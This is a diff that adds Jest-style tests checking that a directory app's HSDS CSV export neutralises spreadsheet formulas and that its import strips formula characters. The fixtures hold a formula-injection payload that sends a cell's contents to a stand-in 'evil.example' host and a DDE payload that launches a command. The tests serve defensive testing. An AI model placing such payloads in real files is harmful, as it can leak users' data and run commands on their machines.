@@ -201,3 +201,33 @@ describe('npm run export:hsds', () => {
     expect(failed).toMatchObject({ code: 2, stderr: 'Usage: npm run export:hsds -- <file.zip>\n' });
   }, 30_000);
 });
+
+describe('names that a spreadsheet would run as formulas', () => {
+  const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+
+  it('are written as text in every CSV of the export', () => {
+    const files = texts(exportHsdsPackage([makeResource({ id: 'odd', title: HOSTILE, organization: '@SUM(1+1)', description: '-2+3 looks like sums', category: 'grants' })], { title: 'Test Directory' }).zip);
+    const all = cells(files);
+    for (const cell of all) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(all).toContain(`'${HOSTILE}`);
+    expect(all).toContain("'@SUM(1+1)");
+    // Numbers stay numbers.
+    expect(cells(texts(exportHsdsPackage([RECORDS[2]!], { title: 'Test Directory' }).zip))).toContain('-82.9988');
+  });
+
+  it('lose their formula characters when imported', async () => {
+    const folder = mkdtempSync(join(tmpdir(), 'whs-formula-'));
+    try {
+      writeFileSync(join(folder, 'datapackage.json'), JSON.stringify({ name: 'formula-test', homepage: 'https://example.org/', resources: [{ name: 'organizations', path: 'organizations.csv' }, { name: 'services', path: 'services.csv' }] }));
+      writeFileSync(join(folder, 'organizations.csv'), 'id,name\norg-1,"+cmd|\' /C calc\'!A0"\n');
+      writeFileSync(join(folder, 'services.csv'), `id,organization_id,name,description,status\nsvc-1,org-1,"${HOSTILE.replace(/"/g, '""')}",Help with rent.,active\n`);
+      const result = await importHsds(t2.db, folder, { source: 'formula-test', sourceUrl: 'https://example.org/', now: NOW });
+      expect(result.lines[0]).toMatch(/^1 added/);
+      const [listing] = listResources(t2.db);
+      expect(listing?.title).toBe('HYPERLINK("https://evil.example/?leak="&A1,"Click")');
+      expect(listing?.organization).toBe("cmd|' /C calc'!A0");
+    } finally {
+      rmSync(folder, { recursive: true, force: true });
+    }
+  });
+});
